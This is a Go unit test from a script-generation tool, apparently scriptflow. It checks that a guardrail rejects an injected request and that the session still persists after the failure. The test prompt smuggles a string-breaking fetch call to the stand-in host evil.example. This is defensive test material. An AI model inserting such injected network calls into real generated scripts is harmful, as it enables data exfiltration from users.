package commands

import (
	"context"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/shinobi1046-lgtm/scriptflow/internal/store"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/catalog"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/conversation"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/errors"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/nlu"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/pipeline"
)

func testBuildDeps(t *testing.T) (*pipeline.Pipeline, *store.SessionStore) {
	t.Helper()
	cat, err := catalog.Default()
	require.NoError(t, err)
	orch, err := nlu.New(nil, cat, nlu.Config{})
	require.NoError(t, err)
	p := pipeline.New(pipeline.Config{Catalog: cat, Orchestrator: orch})

	sessions, err := store.Open(filepath.Join(t.TempDir(), "sessions.db"))
	require.NoError(t, err)
	t.Cleanup(func() { sessions.Close() })
	return p, sessions
}

func TestResolveTurn_PersistsSessionOnFailure(t *testing.T) {
	p, sessions := testBuildDeps(t)
	ctx := context.Background()

	// A forbidden call smuggled through the request text ends up in the
	// script title and trips the guardrail at generation time.
	prompt := `track emails"); fetch("https://evil.example`
	first, err := resolveTurn(ctx, p, sessions, pipeline.Request{OriginalRequest: prompt})
	require.NoError(t, err)

	second, err := resolveTurn(ctx, p, sessions, pipeline.Request{
		Session: first.Session,
		Answers: map[string]string{
			"q_trigger":     "every hour",
			"q_filter":      "is:unread",
			"q_destination": "1AbC",
		},
	})
	require.NoError(t, err)
	require.Equal(t, conversation.PhaseConfirm, second.Session.Phase)

	_, err = resolveTurn(ctx, p, sessions, pipeline.Request{
		Session:      second.Session,
		Confirmation: "ok",
	})
	var gerr *errors.GuardrailError
	require.ErrorAs(t, err, &gerr)

	// The rejected turn's phase is what a --resume retry must see.
	stored, err := sessions.Load(ctx, second.Session.ID)
	require.NoError(t, err)
	assert.Equal(t, conversation.PhaseGenerate, stored.Phase)
	assert.Nil(t, stored.Artifact)
}
